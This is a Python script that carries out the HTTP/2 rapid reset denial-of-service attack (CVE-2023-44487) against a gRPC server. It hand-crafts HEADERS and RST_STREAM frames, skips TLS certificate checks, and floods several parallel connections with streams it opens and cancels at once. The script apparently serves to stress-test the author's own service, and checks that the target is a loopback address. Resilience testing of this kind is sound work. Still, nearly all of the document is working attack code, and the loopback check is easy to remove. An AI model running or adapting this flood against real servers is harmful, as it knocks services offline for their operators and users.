#!/usr/bin/env python3
"""HTTP/2 rapid reset (CVE-2023-44487) against a gRPC server, with no credential.

Opens CONNECTIONS TLS connections (ALPN h2) and on each sends, as fast as it can, a HEADERS frame
that starts a call (POST to a real method) followed at once by RST_STREAM(CANCEL) for it. Frames
are written by hand: one HPACK block without dynamic-table state serves every stream. Bounded:
stops after SECONDS or once STREAMS were started (a volume that does not depend on how much CPU
the attacker gets). Prints the streams started and reset. For tests and measurements against
services this machine runs on loopback only.

  rapid_reset.py HOST:PORT [--seconds 10] [--streams 300000] [--connections 4]
                  [--path /converge.store.v1.StoreService/Pull]
"""
import argparse
import multiprocessing
import socket
import ssl
import struct
import time

PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
HEADERS, RST_STREAM, SETTINGS = 0x1, 0x3, 0x4
END_HEADERS, ACK = 0x4, 0x1
CANCEL = 0x8


def frame(kind, flags, stream, payload):
    return struct.pack(">I", len(payload))[1:] + bytes([kind, flags]) + struct.pack(">I", stream) + payload


def literal(index4, value):
    """A literal header field without indexing, with an indexed name (4-bit prefix)."""
    v = value.encode()
    assert len(v) < 127
    if index4 < 15:
        head = bytes([index4])
    else:
        head = bytes([15, index4 - 15])
    return head + bytes([len(v)]) + v


def header_block(authority, path):
    return (bytes([0x83, 0x87])  # :method POST, :scheme https (static table)
            + literal(4, path) + literal(1, authority)
            + literal(31, "application/grpc")
            + bytes([0x00, 2]) + b"te" + bytes([8]) + b"trailers")


def attack(host, port, seconds, streams, path, out):
    ctx = ssl.SSLContext(ssl.PROTOCOL_TLS_CLIENT)
    ctx.check_hostname = False
    ctx.verify_mode = ssl.CERT_NONE
    ctx.set_alpn_protocols(["h2"])
    started = 0
    deadline = time.monotonic() + seconds
    while time.monotonic() < deadline and started < streams:
        try:
            raw = socket.create_connection((host, port), timeout=5)
            conn = ctx.wrap_socket(raw, server_hostname="localhost")
            conn.sendall(PREFACE + frame(SETTINGS, 0, 0, b"") + frame(SETTINGS, ACK, 0, b""))
            block = header_block(f"{host}:{port}", path)
            stream = 1
            conn.setblocking(False)
            while time.monotonic() < deadline and stream < (1 << 31) - 2000 and started < streams:
                batch = []
                for _ in range(200):
                    batch.append(frame(HEADERS, END_HEADERS, stream, block))
                    batch.append(frame(RST_STREAM, 0, stream, struct.pack(">I", CANCEL)))
                    stream += 2
                data = b"".join(batch)
                view = memoryview(data)
                while view and time.monotonic() < deadline:
                    try:
                        n = conn.send(view)
                        view = view[n:]
                    except (ssl.SSLWantWriteError, BlockingIOError):
                        time.sleep(0.001)
                    try:  # drain what the server says, without waiting
                        while conn.recv(1 << 16):
                            pass
                    except (ssl.SSLWantReadError, BlockingIOError):
                        pass
                started += 200
            conn.close()
        except (OSError, ssl.SSLError):
            time.sleep(0.05)  # refused or closed: connect again
    out.put(started)


def main():
    p = argparse.ArgumentParser()
    p.add_argument("target")
    p.add_argument("--seconds", type=float, default=10)
    p.add_argument("--streams", type=int, default=1 << 40, help="in all, over the connections")
    p.add_argument("--connections", type=int, default=4)
    p.add_argument("--path", default="/converge.store.v1.StoreService/Pull")
    a = p.parse_args()
    host, port = a.target.rsplit(":", 1)
    assert host in ("127.0.0.1", "localhost", "::1"), "loopback targets only"
    a.seconds = min(a.seconds, 120)
    out = multiprocessing.Queue()
    each = -(-a.streams // a.connections)
    procs = [multiprocessing.Process(target=attack, args=(host, int(port), a.seconds, each, a.path, out))
             for _ in range(a.connections)]
    for proc in procs:
        proc.start()
    total = sum(out.get() for _ in procs)
    for proc in procs:
        proc.join()
    print(f"streams started and reset: {total} in {a.seconds:.0f} s")


if __name__ == "__main__":
    main()
